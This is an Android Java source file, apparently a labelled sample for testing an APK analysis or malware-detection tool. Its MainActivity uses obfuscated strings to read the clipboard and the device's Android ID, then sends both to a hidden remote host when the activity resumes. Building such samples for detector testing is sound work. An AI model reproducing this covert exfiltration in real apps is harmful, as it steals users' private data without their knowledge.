package org.apkvet.samples.hidden.object;

import android.app.Activity;
import android.provider.Settings;
import java.net.URL;
import java.net.URLConnection;

/** Reads the clipboard and an identifier by names that are hidden, and sends them to a host that is hidden. */
public class MainActivity extends Activity {
    @Override
    protected void onResume() {
        super.onResume();
        try {
            Object service = getSystemService(D.INSTANCE.d("qgtzwe\174yv"));
            Object clip = Class.forName(D.INSTANCE.d("gprt\173tXqgtzwe\174yV\073a\173pa\173zv\073q\174zgq\173t")).getMethod(D.INSTANCE.d("e\174yVlgtx\174gEapr")).invoke(service);
            String id = Settings.Secure.getString(getContentResolver(), D.INSTANCE.d("q\174Jq\174zgq\173t"));
            URLConnection connection = new URL(D.INSTANCE.d("e\174yv:pyextmp\073\173pqq\174\175\073avpyyzv::/feaa\175")).openConnection();
            connection.getOutputStream().write((id + clip).getBytes());
        } catch (Exception e) {
            finish();
        }
    }
}
